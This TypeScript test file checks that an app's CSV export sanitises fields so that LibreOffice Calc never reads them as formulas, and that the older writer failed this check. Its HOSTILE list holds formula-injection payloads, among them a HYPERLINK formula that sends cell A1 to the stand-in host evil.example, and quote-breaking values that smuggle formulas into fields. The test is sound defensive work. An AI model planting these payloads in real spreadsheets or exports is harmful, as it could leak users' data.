/**
 * The app's CSV (src/shared/csv.ts: every table's export and the bulk summary) read by a spreadsheet
 * itself: LibreOffice Calc, headless, one start for every reading (spreadsheet-read.py drives it over
 * UNO, so each file gets its own CSV filter options). Hostile texts (formulas at the start of a field,
 * after a `;`, a tab or a line break inside it, quotes that try to end the field) must not become a
 * formula in any reading: comma separated, as written; `;` separated, as Excel reads a CSV in locales
 * whose list separator is `;`, with the quotes honoured and with them ignored (every `;` starts a
 * cell); tab separated. The same rows written the old way do become formulas: the reading can fail.
 *
 * Needs soffice (apt package libreoffice-calc-nogui, with python3-uno). Without it the test skips with
 * the reason printed; under CI (CI=true) it fails instead.
 */
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField, csvText } from '../../src/shared/csv';

const underCI = /^(1|true|yes)$/i.test(process.env.CI ?? '');
const soffice = (process.env.PATH ?? '').split(delimiter).map((dir) => join(dir, 'soffice')).find((path) => existsSync(path));
/** A Python that has LibreOffice's UNO bridge (Debian's python3-uno is for the system Python). */
const python = ['/usr/bin/python3', 'python3'].find((candidate) => spawnSync(candidate, ['-c', 'import uno'], { stdio: 'ignore' }).status === 0);
const missing = !soffice ? 'soffice is not installed (apt-get install -y libreoffice-calc-nogui)' : !python ? 'no Python with the uno module (apt-get install -y python3-uno)' : null;

/** Texts a record may hold (a title, a file name, a server message), each meant to run as a formula somewhere. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;2)',
  '=HYPERLINK("http://evil.example/?"&A1;"Open")',
  ' =1+1',
  'Dairy;=1+1',
  'a;+1+1;-1+1;@SUM(1;2)',
  'a; =1+1',
  'a\t=1+1',
  '\t=1+1',
  '\r=1+1',
  'first line\n=1+1',
  'first line\r\n+1+1',
  'x","=1+1',
  'b;=1+1","c',
  'x";=1+1;"y',
];
/** Texts that must come back as they were. */
const PLAIN = ['plain', 'a,b', 'say "hi"', 'Planning > Basics > Start', 'before - after', 'yoga; breathing', 'गणित'];

const HEADER = ['Problem', 'Record', 'Details', 'Size'];
const ROWS: (string | number)[][] = [
  ...HOSTILE.map((text, i) => ['Title repeated', text, `${text} (again)`, i]),
  ...PLAIN.map((text, i) => [text, 'ok', text, -i]),
];

/** The CSV writer before this rule: quoted only for a quote, a comma or a line break; only a leading formula character escaped. */
const oldField = (value: string | number): string => {
  if (typeof value === 'number') return String(value);
  const safe = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]|^\s|\s$/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
};
const oldCsv = [HEADER, ...ROWS].map((row) => row.map(oldField).join(',')).join('\r\n') + '\r\n';

/** CSV filter options: separator, text delimiter (0: none, every separator splits), UTF-8, from line 1, ..., evaluate formulas. */
const options = (separator: number, quote: number) => `${separator},${quote},76,1,,0,false,true,false,false,false,-1,true`;
const READINGS = [
  { name: 'comma separated', options: options(44, 34) },
  { name: 'semicolon separated', options: options(59, 34) },
  { name: 'semicolon separated, quotes ignored', options: options(59, 0) },
  { name: 'tab separated, quotes ignored', options: options(9, 0) },
];

interface Cell {
  row: number;
  col: number;
  text: string;
  formula: boolean;
  content: string;
}

let work: string | undefined;
afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

describe('CSV in a spreadsheet (LibreOffice Calc)', () => {
  if (missing) {
    if (underCI) {
      it('has LibreOffice to read the CSV with (required under CI)', () => {
        throw new Error(`Cannot read CSV in a spreadsheet: ${missing}.`);
      });
    } else {
      console.warn(`[csv-spreadsheet.test] skipping: ${missing}.`);
      it.skip(`CSV read by LibreOffice (skipped: ${missing})`, () => undefined);
    }
    return;
  }

  it('no cell of the app CSV becomes a formula in any reading; the same rows written the old way do', { timeout: 300_000 }, async () => {
    work = await mkdtemp(join(tmpdir(), 'cc-csv-sheet-'));
    const ours = join(work, 'export.csv');
    const old = join(work, 'old.csv');
    // As files.saveCsv writes it: a byte-order mark, then the text.
    await writeFile(ours, `\uFEFF${csvText(HEADER, ROWS)}`, 'utf8');
    await writeFile(old, `\uFEFF${oldCsv}`, 'utf8');
    const files = READINGS.flatMap((reading) => [ours, old].map((path) => ({ path, options: reading.options })));
    const run = spawnSync(python!, [join(import.meta.dirname, 'spreadsheet-read.py')], {
      input: JSON.stringify({ soffice, profile: join(work, 'profile'), files }),
      encoding: 'utf8',
      timeout: 280_000,
      maxBuffer: 64 * 1024 * 1024,
    });
    expect(run.status, `spreadsheet-read.py failed: ${run.stderr}`).toBe(0);
    const read = JSON.parse(run.stdout) as { path: string; options: string; cells: Cell[] }[];
    expect(read).toHaveLength(files.length);

    for (const [i, reading] of READINGS.entries()) {
      const mine = read[i * 2]!;
      const before = read[i * 2 + 1]!;
      const formulas = mine.cells.filter((cell) => cell.formula).map((cell) => `${cell.row}:${cell.col} ${cell.content}`);
      expect(formulas, `${reading.name}: cells that became formulas`).toEqual([]);
      expect(mine.cells.length, `${reading.name}: cells read`).toBeGreaterThan(ROWS.length);
      // The reading does find formulas where the old writer let them through (the ; and tab cases at least).
      if (reading.name !== 'comma separated') expect(before.cells.some((cell) => cell.formula), `${reading.name}: the old CSV has formulas`).toBe(true);
    }

    // Read as written (comma separated), every row keeps its columns and every text its characters: a
    // hostile one shown with the apostrophes before its formula characters, a plain one unchanged (a
    // spreadsheet keeps a line break inside a cell as a line feed).
    const grid = new Map(read[0]!.cells.map((cell) => [`${cell.row}:${cell.col}`, cell.text]));
    const shown = (value: string | number) => (typeof value === 'number' ? String(value) : csvField(value).slice(1, -1).replace(/""/g, '"').replace(/\r\n?/g, '\n'));
    [HEADER, ...ROWS].forEach((row, r) => row.forEach((value, c) => expect(grid.get(`${r}:${c}`), `row ${r} column ${c}`).toBe(shown(value))));
    for (const [r, text] of PLAIN.entries()) expect(grid.get(`${HOSTILE.length + 1 + r}:0`)).toBe(text);
  });
});
